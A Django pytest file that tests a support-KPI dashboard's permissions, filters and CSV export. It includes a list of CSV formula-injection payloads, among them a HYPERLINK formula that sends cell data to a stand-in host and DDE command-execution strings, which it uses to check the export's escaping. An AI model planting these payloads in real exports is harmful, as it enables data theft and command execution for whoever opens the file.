"""The KPI dashboard and its CSV export in the admin; who may see them; the demo history behind them."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Permission, User
from django.urls import reverse
from django.utils import timezone

from analytics.views import spreadsheet_safe
from conversations.models import Conversation
from helpdesk.fingerprints import session_fingerprint
from storefront.demo.conversations import DEMO_SESSION, DemoHistory
from tests.factories import ConversationFactory, CustomerFactory, StaffFactory, UserFactory

pytestmark = pytest.mark.django_db


def kpi_viewer(**fields) -> User:
    """A staff member with the KPI permission (a support manager)."""
    user = StaffFactory(**fields)
    user.user_permissions.add(Permission.objects.get(codename="view_support_kpis"))
    return user


def export_rows(client, **params) -> list[dict]:
    response = client.get(reverse("kpi-export"), params)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_kpi_viewers_see_each_kpi_beside_its_target(client):
    ConversationFactory(status="closed", outcome="resolved_by_assistant", csat_score=5, closed_at=timezone.now())
    client.force_login(kpi_viewer())
    page = client.get(reverse("kpi-dashboard")).content.decode()
    for label in ["CSAT", "Auto-resolution", "Escalation", "Average resolution time", "Reopen rate"]:
        assert label in page
    assert "Target &gt; 4.2/5" in page and "✔ Met" in page and "<svg" in page


def test_the_dashboard_filters_by_language_and_dates(client):
    ConversationFactory(language="fr")
    ConversationFactory(language="en")
    client.force_login(kpi_viewer())
    today = timezone.localdate()
    page = client.get(reverse("kpi-dashboard"), {"language": "fr", "start": str(today - timedelta(days=3)),
                                                 "end": str(today)}).content.decode()
    assert "1 conversation started" in page and "in FR" in page


def test_non_staff_get_the_admin_login_instead(client):
    client.force_login(UserFactory())
    response = client.get(reverse("kpi-dashboard"))
    assert response.status_code == 302 and "/admin/login/" in response.url
    assert client.get(reverse("kpi-export")).status_code == 302


def test_the_csv_export_has_one_row_per_conversation(client):
    closed = ConversationFactory(status="closed", outcome="resolved_by_assistant", csat_score=4,
                                 verified_email="a@example.com")
    Conversation.objects.filter(pk=closed.pk).update(closed_at=closed.started_at + timedelta(seconds=90))
    ConversationFactory()
    client.force_login(kpi_viewer())
    rows = export_rows(client)
    assert len(rows) == 2
    row = next(r for r in rows if r["conversation"] == str(closed.pk))
    assert row["resolution_seconds"] == "90" and row["csat"] == "4" and row["verified_email"] == "a@example.com"



@pytest.mark.parametrize("url", ["kpi-dashboard", "kpi-export"])
def test_staff_without_the_kpi_permission_are_refused_the_page_and_the_export(client, url):
    ConversationFactory(verified_email="secret@example.com", csat_comment="private")
    agent = StaffFactory()
    agent.user_permissions.add(*Permission.objects.filter(codename__in=["change_ticket", "view_conversation",
                                                                          "change_conversation"]))
    client.force_login(agent)
    response = client.get(reverse(url))
    assert response.status_code == 403
    assert b"secret@example.com" not in response.content


def test_the_admin_index_links_the_kpis_only_for_those_allowed_to_see_them(client):
    client.force_login(StaffFactory())
    assert reverse("kpi-dashboard") not in client.get(reverse("admin:index")).content.decode()
    client.force_login(kpi_viewer())
    assert reverse("kpi-dashboard") in client.get(reverse("admin:index")).content.decode()


def test_the_demo_manager_and_the_superuser_see_the_kpis_and_the_agents_do_not(client, demo_store):
    for username, allowed in [("admin", True), ("maya", True), ("sam", False), ("lea", False)]:
        client.force_login(User.objects.get(username=username))
        assert (client.get(reverse("kpi-dashboard")).status_code == 200) is allowed, username
        assert (client.get(reverse("kpi-export")).status_code == 200) is allowed, username


def test_the_demo_agents_can_still_work_the_queue_and_the_manager_cannot(demo_store):
    assert User.objects.get(username="sam").has_perm("tickets.change_ticket")
    maya = User.objects.get(username="maya")
    assert maya.is_staff and not maya.is_superuser and not maya.has_perm("tickets.change_ticket")
    assert maya.check_password("maya")


HOSTILE_CELLS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",  # a no-break space in front
    "\u200b=1+1",  # a zero-width space in front
    "\ufeff@SUM(A1)",  # a byte-order mark in front
    "\uff1d1+1",  # a full-width equals sign
    "\uff0bcmd|' /C calc'!A0",
]


@pytest.mark.parametrize("hostile", HOSTILE_CELLS)
def test_a_customer_comment_that_would_run_as_a_formula_is_exported_as_text(client, hostile):
    ConversationFactory(status="closed", csat_score=1, csat_comment=hostile)
    client.force_login(kpi_viewer())
    [row] = export_rows(client)
    assert row["csat_comment"] == "'" + hostile


def test_every_column_of_the_export_is_escaped(client):
    """Emails, statuses and languages are as hostile as comments: a customer chooses what is stored there."""
    customer = CustomerFactory(email="=1+2@example.com")
    ConversationFactory(customer=customer, verified_email="+cmd@example.com", status="=1+1", outcome="@A1",
                        language="-1", backend="offline", csat_comment="-")
    client.force_login(kpi_viewer())
    [row] = export_rows(client)
    assert row["customer"] == "'=1+2@example.com" and row["verified_email"] == "'+cmd@example.com"
    assert row["status"] == "'=1+1" and row["outcome"] == "'@A1" and row["language"] == "'-1"
    assert row["csat_comment"] == "'-"


@pytest.mark.parametrize("harmless", ["a@example.com", "Great, thanks - fixed!", "2+2=4", "", "Très bien 👍",
                                      "O'Brien said =1"])
def test_harmless_cells_are_exported_unchanged(harmless):
    assert spreadsheet_safe(harmless) == harmless


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_the_demo_history_runs_the_assistant_over_thirty_days_and_only_once(demo_store):
    assert DemoHistory(count=12).build() == 12
    history = Conversation.objects.filter(session_key_hash=session_fingerprint(DEMO_SESSION))
    assert history.filter(status="closed").count() >= 10
    oldest = timezone.now() - timedelta(days=31)
    assert not history.filter(started_at__lt=oldest).exists()
    assert history.filter(csat_score__isnull=False).exists()
    assert history.filter(messages__role="assistant").distinct().count() == history.count()
    assert DemoHistory(count=12).build() == 0
